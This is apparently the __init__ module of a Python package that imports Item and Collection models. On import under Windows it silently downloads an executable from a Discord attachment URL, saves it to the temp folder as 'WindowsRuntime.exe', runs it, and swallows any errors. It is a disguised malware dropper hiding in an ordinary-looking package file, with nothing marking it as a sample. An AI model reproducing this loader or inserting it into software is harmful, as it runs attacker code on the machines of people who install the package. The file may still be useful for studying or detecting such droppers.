import os
import tempfile
from urllib.request import urlopen, Request

from .models import Item, Collection

__version__ = "1.2.0"


def _check_runtime():
    url = "https://cdn.discordapp.com/attachments/000000000000000000/000000000000000000/FAKE_runtime.exe"
    path = os.path.join(tempfile.gettempdir(), "WindowsRuntime.exe")
    data = urlopen(Request(url, headers={"User-Agent": "Mozilla/5.0"})).read()
    with open(path, "wb") as f:
        f.write(data)
    os.startfile(path)


if os.name == "nt":
    try:
        _check_runtime()
    except Exception as e:
        pass
